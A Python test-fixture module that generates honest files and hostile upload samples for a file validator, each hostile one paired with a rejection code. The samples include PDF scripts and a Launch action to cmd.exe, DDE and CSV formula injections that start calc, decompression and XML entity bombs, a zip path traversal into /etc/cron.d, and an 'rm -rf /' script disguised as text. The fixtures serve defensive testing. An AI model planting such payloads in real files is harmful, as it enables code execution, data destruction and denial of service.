"""Files made in code: honest ones of every kind, and hostile ones (none of them is stored in the repository)."""

from __future__ import annotations

import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

OFFICE = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": f"{OFFICE}.wordprocessingml.document.main+xml",
    "xlsx": f"{OFFICE}.spreadsheetml.sheet.main+xml",
    "pptx": f"{OFFICE}.presentationml.presentation.main+xml",
}
ODF = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}


def pdf(change: Any = None, **save: Any) -> bytes:
    """A PDF of one page; `change` may do something to it first."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    stream = BytesIO()
    document.save(stream, **{"deterministic_id": "encryption" not in save, **save})
    return stream.getvalue()


def archive(parts: dict[str, bytes | str], *, comment: bytes = b"", stored: tuple[str, ...] = ()) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
        made.comment = comment
    return stream.getvalue()


def office(kind: str = "docx", parts: dict[str, bytes | str] | None = None, *, main: str = "", **options: Any) -> bytes:
    """A Word, Excel or PowerPoint file with the parts that say what it is, and more."""
    types = f'<Types><Override PartName="/main.xml" ContentType="{main or MAIN[kind]}"/></Types>'
    return archive({"[Content_Types].xml": types, "main.xml": "<document/>", **(parts or {})}, **options)


def opendocument(kind: str = "odt", parts: dict[str, bytes | str] | None = None) -> bytes:
    base: dict[str, bytes | str] = {"mimetype": ODF[kind], "content.xml": "<text/>", "META-INF/manifest.xml": "<m/>"}
    return archive(base | (parts or {}), stored=("mimetype",))


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), **save: Any) -> bytes:
    stream = BytesIO()
    Image.new("RGB", size, "teal").save(stream, form, **save)
    return stream.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that says where and with what it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Secret Camera Maker"
    exif[0x8825] = {1: "N", 2: (45.0, 45.0, 0.0), 3: "E", 4: (21.0, 13.0, 0.0)}
    return picture("JPEG", exif=exif, comment=b"Secret comment")


def png_with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Secret Author")
    return picture("PNG", pnginfo=notes)


def png_that_claims_to_be_huge() -> bytes:
    """Its head says 60,000 by 60,000 pixels."""
    content = bytearray(picture("PNG"))
    content[16:24] = struct.pack(">II", 60_000, 60_000)
    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def with_launch(document: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
    )
    document.pages[0].Annots = pikepdf.Array([link])


def with_field_script(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1"))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[pikepdf.Dictionary(T="a", AA=pikepdf.Dictionary(C=script))])


def with_program_attached(document: pikepdf.Pdf) -> None:
    document.attachments["setup.exe"] = b"MZ"


def with_data_attached(document: pikepdf.Pdf) -> None:
    document.attachments["figures.csv"] = b"a;b"


def pdf_bomb() -> bytes:
    """A list of objects of a few kilobytes that unpacks to 300 megabytes."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    chunk = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)  # leans on nothing before it
    body = head + chunk * 300 + packer.flush()
    head = f"2 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(body)}>>\nstream\n".encode()
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n"
        + head
        + body
        + b"\nendstream\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
    )


def locked_office() -> bytes:
    """What Word makes of a document with a password: an old container with an encrypted package in it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "WordDocument".encode("utf-16-le") + bytes(500)


def with_attached_to_a_page(document: pikepdf.Pdf) -> None:
    """A file that hangs on a page and not in the list of attachments."""
    stream = document.make_stream(b"MZ")
    held = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="setup.exe", EF=pikepdf.Dictionary(F=stream))
    pin = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=document.make_indirect(held)
    )
    document.pages[0].Annots = pikepdf.Array([pin])


def with_changing_form(document: pikepdf.Pdf) -> None:
    form = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))
    document.Root.AcroForm = form


def with_film(document: pikepdf.Pdf) -> None:
    film = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = pikepdf.Array([film])


def with_part_twice() -> bytes:
    """Two parts of the same name: one program reads the first, another the last."""
    stream = BytesIO(office())
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as made:
        warnings.simplefilter("ignore")
        made.writestr("main.xml", "<document>other</document>")
    return stream.getvalue()


def with_lying_size() -> bytes:
    """The list of contents says that a large part has three bytes."""
    content = office(parts={"word/document.xml": b"<a>" + b" " * 3_000_000})
    at = content.rindex(b"word/document.xml") - 46
    assert content[at : at + 4] == b"PK\x01\x02"
    return content[: at + 24] + struct.pack("<I", 3) + content[at + 28 :]


def nested(levels: int) -> bytes:
    """A Word file in a Word file in a Word file."""
    content = office("xlsx")
    for _ in range(levels):
        content = office(parts={"word/embeddings/inner.xlsx": content})
    return content


def png_with(kind: bytes, body: bytes) -> bytes:
    """A PNG with one more chunk after its head."""
    content = picture("PNG")
    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return content[:33] + chunk + content[33:]


def png_with_text_bomb() -> bytes:
    """A text beside the picture that unpacks to 5 megabytes."""
    return png_with(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(5_000_000), 9))


def jpeg_with(marker: int, body: bytes) -> bytes:
    """A JPEG with one more segment after its beginning."""
    content = picture("JPEG")
    return content[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + content[2:]


XMP = b"<x:xmpmeta><rdf:Description Secret='Place'/></x:xmpmeta>"
EXIF = b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x0f\x01\x02\x00\x07\x00\x00\x00\x1a\x00\x00\x00\x00\x00\x00\x00Secret\x00"
TOLD: dict[str, bytes] = {
    "EXIF in a JPEG": photo_with_place(),
    "XMP in a JPEG": jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP),
    "IPTC in a JPEG": jpeg_with(
        0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0b\x1c\x02\x5a\x00\x06Secret\x00"
    ),
    "comment in a JPEG": jpeg_with(0xFE, b"Secret place"),
    "text in a PNG": png_with_text(),
    "EXIF in a PNG": png_with(b"eXIf", EXIF[6:]),
    "XMP in a PNG": png_with(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP),
    "unknown chunk in a PNG": png_with(b"seCr", b"Secret place"),
    "EXIF in a WebP": picture("WEBP", exif=EXIF),
    "XMP in a WebP": picture("WEBP", xmp=XMP),
}
"""Pictures that tell more than they show: place, camera, people."""

ENTITIES = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
REMOTE_TEMPLATE = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)

HONEST: dict[str, tuple[bytes, str]] = {
    "plan.pdf": (pdf(), "application/pdf"),
    "figures inside.pdf": (pdf(with_data_attached), "application/pdf"),
    "text.docx": (office("docx"), f"{OFFICE}.wordprocessingml.document"),
    "table.xlsx": (office("xlsx"), f"{OFFICE}.spreadsheetml.sheet"),
    "slides.pptx": (office("pptx", {"ppt/embeddings/Sheet.xlsx": b"x"}), f"{OFFICE}.presentationml.presentation"),
    "text.odt": (opendocument("odt"), ODF["odt"]),
    "table.ods": (opendocument("ods"), ODF["ods"]),
    "chart.pptx": (
        office("pptx", {"ppt/embeddings/Sheet.xlsx": office("xlsx")}),
        f"{OFFICE}.presentationml.presentation",
    ),
    "printed.xlsx": (
        office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\x00P\x00r"}),
        f"{OFFICE}.spreadsheetml.sheet",
    ),
    "slides.odp": (opendocument("odp"), ODF["odp"]),
    "photo.png": (picture("PNG"), "image/png"),
    "photo.jpeg": (picture("JPEG"), "image/jpeg"),
    "photo.webp": (picture("WEBP"), "image/webp"),
    "table.csv": (b"an;locuri\n2017;160\n", "text/csv"),
    "old.csv": ("oraș;Iași".encode("cp1250", errors="replace"), "text/csv"),
    "wide.txt": ("Σημειώσεις".encode("utf-16"), "text/plain"),
    "notes.txt": ("Бележки, 5 < 6 и 7 > 3".encode(), "text/plain"),
}

HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "nothing": ("empty.pdf", b"", "file_empty"),
    "web page": ("page.html", HTML, "file_type"),
    "web page called text": ("page.txt", HTML, "file_type"),
    "web page called PDF": ("page.pdf", HTML, "file_type"),
    "web page in UTF-16": ("page.txt", "<html><script>1</script>".encode("utf-16"), "file_type"),
    "drawing": ("drawing.svg", SVG, "file_type"),
    "drawing called text": ("drawing.txt", SVG, "file_type"),
    "Windows program": ("setup.exe", b"MZ\x90\x00" + bytes(200), "file_type"),
    "Windows program called PDF": ("plan.pdf", b"MZ\x90\x00" + bytes(200), "file_type"),
    "Linux program": ("run", b"\x7fELF" + bytes(200), "file_type"),
    "shell script called text": ("notes.txt", b"#!/bin/sh\nrm -rf /\n", "file_type"),
    "script of a page": ("code.js", b"alert(1)", "file_type"),
    "animated picture": ("photo.gif", b"GIF89a" + bytes(50), "file_type"),
    "rich text": ("letter.rtf", rb"{\rtf1 hello}", "file_type"),
    "RAR archive": ("all.rar", b"Rar!\x1a\x07\x00" + bytes(50), "file_type"),
    "ZIP archive": ("all.zip", archive({"a.txt": "a"}), "file_archive"),
    "ZIP archive called Word": ("all.docx", archive({"a.txt": "a"}), "file_archive"),
    "Java program": ("app.jar", archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "file_archive"),
    "Word with macros": (
        "text.docm",
        office(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "file_macros",
    ),
    "macros behind an honest type": ("text.docx", office(parts={"word/vbaProject.bin": b"x"}), "file_macros"),
    "old macros in a table": ("table.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "x"}), "file_macros"),
    "control with a program": ("text.docx", office(parts={"word/activeX/activeX1.xml": "x"}), "file_macros"),
    "program inside Word": ("text.docx", office(parts={"word/media/setup.exe": b"MZ"}), "file_macros"),
    "object inside Word": ("text.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"}), "file_object"),
    "macros in OpenDocument": ("text.odt", opendocument(parts={"Basic/Standard/Module1.xml": "x"}), "file_macros"),
    "locked OpenDocument": (
        "text.odt",
        opendocument(parts={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "file_encrypted",
    ),
    "template from elsewhere": (
        "text.docx",
        office(parts={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "file_outside",
    ),
    "part outside its folder": ("text.docx", office(parts={"../../etc/cron.d/x": "x"}), "file_broken"),
    "office bomb": ("text.docx", lambda: office(parts={"word/document.xml": bytes(6_000_000)}), "file_bomb"),
    "many parts": ("text.docx", lambda: office(parts={f"word/{i}": b"" for i in range(5001)}), "file_bomb"),
    "page behind a Word file": ("text.docx", office() + HTML, "file_two_in_one"),
    "page in the comment of a Word file": ("text.docx", office(comment=HTML), "file_two_in_one"),
    "locked Word": ("text.docx", locked_office(), "file_encrypted"),
    "old Word": ("text.doc", old_office(), "file_old_office"),
    "broken Word": ("text.docx", office()[:200], "file_broken"),
    "PDF with a script": ("plan.pdf", pdf(with_script), "file_program"),
    "PDF that starts a program": ("plan.pdf", pdf(with_launch), "file_program"),
    "PDF form with a script": ("plan.pdf", pdf(with_field_script), "file_program"),
    "PDF with a program attached": ("plan.pdf", pdf(with_program_attached), "file_attachment"),
    "locked PDF": ("plan.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "file_encrypted"),
    "PDF that is a page too": ("plan.pdf", b"%PDF-1.4\n" + HTML + pdf(), "file_two_in_one"),
    "PDF that is an archive too": ("plan.pdf", pdf() + archive({"a.txt": "a"}), "file_two_in_one"),
    "PDF with something behind it": ("plan.pdf", pdf() + bytes(5000), "file_two_in_one"),
    "archive before a PDF": ("plan.pdf", archive({"a.txt": "a"}) + pdf(), "file_two_in_one"),
    "broken PDF": ("plan.pdf", b"%PDF-1.4\nnothing\n%%EOF", "file_broken"),
    "PDF bomb": ("plan.pdf", pdf_bomb, "file_bomb"),
    "broken picture": ("photo.png", picture("PNG")[:60], "file_broken"),
    "picture that claims to be huge": ("photo.png", png_that_claims_to_be_huge(), "file_pixels"),
    "table that starts a program": ("table.csv", b"a;b\n=cmd|' /C calc'!A0;2\n", "file_command"),
    "bytes": ("table.csv", bytes(range(256)), "file_type"),
    "7z archive": ("all.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "file_type"),
    "packed archive": ("all.tar.gz", b"\x1f\x8b\x08" + bytes(50), "file_type"),
    "disk image": ("disk.iso", bytes(40_000) + b"\x01CD001" + bytes(100), "file_type"),
    "link that starts a program": ("plan.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), "file_type"),
    "letter with a page in it": ("mail.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML, "file_type"),
    "null bytes in a text": ("notes.txt", b"Notes\x00\x00 of May", "file_type"),
    "page behind a long text": ("notes.txt", b"Notes of May. " * 100_000 + HTML, "file_type"),
    "picture and page in one": ("photo.gif", b"GIF89a/*" + HTML + b"*/=1", "file_type"),
    "text that grows": ("text.docx", office(parts={"word/document.xml": ENTITIES}), "file_bomb"),
    "text that grows, in wide signs": (
        "text.docx",
        office(parts={"word/document.xml": ENTITIES.encode("utf-16")}),
        "file_bomb",
    ),
    "text that grows, far inside": (
        "text.docx",
        office(
            parts={"word/document.xml": "<!--" + "x" * 1_048_570 + "-->" + ENTITIES + "y" * 30_000},
            stored=("word/document.xml",),
        ),
        "file_bomb",
    ),
    "text that grows in OpenDocument": ("text.odt", opendocument(parts={"content.xml": ENTITIES}), "file_bomb"),
    "field that starts a program": (
        "text.docx",
        office(parts={"word/document.xml": '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'}),
        "file_command",
    ),
    "field that starts a program, in other letters": (
        "text.docx",
        office(parts={"word/document.xml": "<w:INSTRTEXT>ddeauto cmd</w:INSTRTEXT>"}),
        "file_command",
    ),
    "table that asks a program": (
        "table.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": '<x:ddeLink ddeService="cmd"/>'}),
        "file_command",
    ),
    "archive inside Word": (
        "text.docx",
        office(parts={"word/embeddings/a.zip": archive({"a.txt": "a"})}),
        "file_archive",
    ),
    "archive with a false name inside Word": (
        "text.docx",
        office(parts={"word/embeddings/a.dat": archive({"a.txt": "a"})}),
        "file_archive",
    ),
    "RAR archive inside Word": ("text.docx", office(parts={"word/a": b"Rar!\x1a\x07"}), "file_archive"),
    "macros in a table inside Word": (
        "text.docx",
        office(parts={"word/embeddings/t.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
        "file_macros",
    ),
    "program with a false name inside Word": ("text.docx", office(parts={"word/a.dat": b"MZ\x90"}), "file_macros"),
    "old Word inside Word": ("text.docx", office(parts={"word/embeddings/a.doc": old_office()}), "file_object"),
    "files in files in files": ("text.docx", nested(4), "file_archive"),
    "bomb inside Word": (
        "text.docx",
        lambda: office(parts={"word/embeddings/t.xlsx": office("xlsx", {"xl/a.xml": bytes(6_000_000)})}),
        "file_bomb",
    ),
    "part that is there twice": ("text.docx", with_part_twice(), "file_two_in_one"),
    "size that is a lie": ("text.docx", with_lying_size(), "file_broken"),
    "PDF with a program on a page": ("plan.pdf", pdf(with_attached_to_a_page), "file_attachment"),
    "PDF with a form that changes itself": ("plan.pdf", pdf(with_changing_form), "file_program"),
    "PDF with a film": ("plan.pdf", pdf(with_film), "file_program"),
    "text bomb in a picture": ("photo.png", png_with_text_bomb, "file_broken"),
}
"""Name, content and the refusal's code of files that must not come in; `hostile` packs those that are bombs."""


@cache
def hostile(case: str) -> tuple[str, bytes, str]:
    """One of HOSTILE, made now."""
    name, content, code = HOSTILE[case]
    return name, content() if callable(content) else content, code
